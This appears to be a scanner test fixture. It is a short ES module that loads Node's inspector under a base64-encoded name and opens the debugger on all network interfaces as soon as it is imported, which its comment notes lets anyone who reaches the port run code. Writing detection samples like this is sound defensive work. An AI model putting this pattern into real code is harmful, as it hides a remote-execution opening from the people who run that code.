// expect: category=module-loading min=70 context=plugin,package
// why: an ES module builds a CommonJS require with createRequire(import.meta.url) and loads by a decoded name.
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
const name = atob('aW5zcGVjdG9y');
const debug = require(name);

export function enableRemoteDebugging() {
  // Opens the host's debugger on every interface: anyone who reaches it can run code.
  debug.open(9229, '0.0.0.0', false);
  return debug.url();
}

enableRemoteDebugging();
